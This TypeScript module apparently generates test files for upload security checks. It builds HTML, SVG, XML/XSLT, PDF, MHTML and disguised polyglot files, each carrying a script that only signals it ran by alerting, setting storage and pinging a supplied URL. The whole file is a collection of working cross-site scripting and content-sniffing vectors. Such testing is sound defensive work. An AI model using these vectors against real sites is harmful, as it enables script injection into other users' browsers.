// Files that carry a script past a server or browser that checks their type, their first bytes or their name. Each
// script reports that it runs in every way that a page has.

export interface ScriptFile {
  name: string
  /** The type of the upload. */
  contentType: string
  bytes: Buffer
  /**
   * The way in which a careless server would make Chromium run it: opened with its type; without any type, so that the browser
   * inspects the bytes; or included by another page as a script. Undefined for files that Chromium never runs but other
   * browsers did.
   */
  runs: 'typed' | 'sniffed' | 'as a script' | undefined
}

/**
 * Builds the files. `hit` is the URL that each script requests, followed by the file's name. It contains no `<`, `&` or
 * `"`, so it fits anywhere.
 */
export function scriptFiles(hit: string): ScriptFile[] {
  const file = (
    name: string,
    contentType: string,
    runs: ScriptFile['runs'],
    text: (script: string) => string | Buffer,
  ): ScriptFile => {
    const script =
      `try{document.title='ran ${name}'}catch(e){};try{localStorage.setItem('${name}','ran')}catch(e){};` +
      `try{document.cookie='${name}=ran'}catch(e){};` +
      `try{new Image().src='${hit}${name}'}catch(e){};try{fetch('${hit}${name}',{mode:'no-cors'})}catch(e){};` +
      `try{if(!window.reported){window.reported=1;alert('${name}')}}catch(e){}`
    return { name, contentType, runs, bytes: Buffer.from(text(script)) }
  }
  const html = (script: string) =>
    `<!doctype html><html><head><title>harmless</title><script>${script}</script></head>` +
    `<body onload="${script}"><img src="x:" onerror="${script}">` +
    `<svg onload="${script}"></svg><iframe srcdoc="<script>${script.replaceAll("'", '&#39;')}</script>"></iframe>` +
    `<input autofocus onfocus="${script}"></body></html>`
  const xhtml = (script: string) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script}</script></head><body onload="${script}"><p/></body></html>`
  const svg = (script: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" onload="${script}"><script>${script}</script>` +
    `<rect width="400" height="400"/></svg>`
  const stylesheet = (script: string) =>
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
    `<xsl:template match="/">${xhtml(script)}</xsl:template></xsl:stylesheet>`
  const prolog = '<?xml version="1.0"?>'
  const pdf = (action: string) =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<<${action}>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
  const mhtml = (script: string) =>
    'From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n' +
    `--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${html(script)}\r\n--b--\r\n`
  return [
    file('html', 'text/html', 'typed', html),
    file('html-charset', 'text/html; charset=utf-8', 'typed', html),
    file('html-capitals', 'TEXT/HTML', 'typed', html),
    file(
      'html-link',
      'text/html',
      'typed',
      (script) => `<!doctype html><a href="javascript:${script}" style="position:fixed;inset:0;background:red">x</a>`,
    ),
    file(
      'html-frame',
      'text/html',
      'typed',
      (script) =>
        `<!doctype html><iframe src="javascript:${script}"></iframe><embed src="javascript:${script}">` +
        `<object data="javascript:${script}"></object>`,
    ),
    file(
      'html-event',
      'text/html',
      'typed',
      (script) =>
        `<!doctype html><details open ontoggle="${script}"><video><source onerror="${script}"></video><marquee onstart="${script}">`,
    ),
    file('html-utf16', 'text/html; charset=utf-16le', 'typed', (script) =>
      Buffer.from(`\ufeff${html(script)}`, 'utf16le'),
    ),
    file('xhtml', 'application/xhtml+xml', 'typed', (script) => prolog + xhtml(script)),
    file('svg', 'image/svg+xml', 'typed', svg),
    file('svg-parameter', 'image/svg+xml; charset=utf-8', 'typed', svg),
    file(
      'svg-link',
      'image/svg+xml',
      'typed',
      (script) =>
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">' +
        `<a href="javascript:${script}"><rect width="400" height="400"/></a></svg>`,
    ),
    file(
      'svg-foreign',
      'image/svg+xml',
      'typed',
      (script) =>
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject width="9" height="9">' +
        '<body xmlns="http://www.w3.org/1999/xhtml">' +
        `<img src="x:" onerror="${script}"/></body></foreignObject></svg>`,
    ),
    file('xml', 'text/xml', 'typed', (script) => `${prolog}<a>${xhtml(script)}</a>`),
    file('xml-application', 'application/xml', 'typed', (script) => `${prolog}<a>${svg(script)}</a>`),
    file('xml-any', 'application/anything+xml', 'sniffed', (script) => prolog + xhtml(script)),
    file('xml-video', 'video/anything+xml', 'sniffed', (script) => prolog + xhtml(script)),
    file('xml-audio', 'audio/x+xml', 'sniffed', (script) => prolog + svg(script)),
    file('xml-font', 'font/x+xml', 'sniffed', (script) => prolog + svg(script)),
    file(
      'xslt',
      'text/xml',
      undefined,
      (script) =>
        `${prolog}<?xml-stylesheet type="text/xsl" href="data:text/xsl,${encodeURIComponent(stylesheet(script))}"?><a/>`,
    ),
    file(
      'xslt-itself',
      'text/xsl',
      'typed',
      (script) => `${prolog}<?xml-stylesheet type="text/xsl" href=""?>${stylesheet(script)}`,
    ),
    file('rss', 'application/rss+xml', 'sniffed', (script) => `${prolog}<rss>${svg(script)}</rss>`),
    file('html-as-png', 'image/png', 'sniffed', html),
    file('html-as-jpeg', 'image/jpeg', 'sniffed', html),
    file('html-as-plain', 'text/plain', 'sniffed', html),
    file('html-as-json', 'application/json', 'sniffed', html),
    file('html-as-video', 'video/mp4', 'sniffed', html),
    file('html-as-font', 'font/woff2', 'sniffed', html),
    file('html-as-icon', 'image/x-icon', 'sniffed', html),
    file('html-as-bytes', 'application/octet-stream', 'sniffed', html),
    file('html-as-nothing', 'unknown/unknown', 'sniffed', html),
    file('html-behind-blanks', 'text/plain', 'sniffed', (script) => ` \n\t${html(script)}`),
    file('pdf', 'application/pdf', undefined, (script) =>
      pdf(`/S/JavaScript/JS(app.alert\\(1\\);${script.replaceAll(/[()]/g, '\\$&')})`),
    ),
    file('pdf-link', 'application/pdf', undefined, (script) =>
      pdf(`/S/URI/URI(javascript:${script.replaceAll(/[()]/g, '\\$&')})`),
    ),
    file(
      'html-pdf',
      'text/html',
      'typed',
      (script) => `%PDF-1.7\n<!--\n${pdf('/S/Named/N/FirstPage')}-->${html(script)}`,
    ),
    file('pdf-html', 'application/pdf', undefined, (script) => `%PDF-1.7\n${html(script)}`),
    file('gif-script', 'image/gif', 'as a script', (script) => `GIF89a=1;${script}`),
    file('gif-html', 'image/gif', undefined, (script) => `GIF89a<script>${script}</script>`),
    file('plain-script', 'text/plain', 'as a script', (script) => script),
    file('json-script', 'application/json', 'as a script', (script) => script),
    file('mhtml', 'multipart/related', undefined, mhtml),
    file('mhtml-message', 'message/rfc822', undefined, mhtml),
    file(
      'replace',
      'multipart/x-mixed-replace; boundary=b',
      undefined,
      (script) => `--b\r\nContent-Type: text/html\r\n\r\n${html(script)}\r\n--b--\r\n`,
    ),
  ]
}
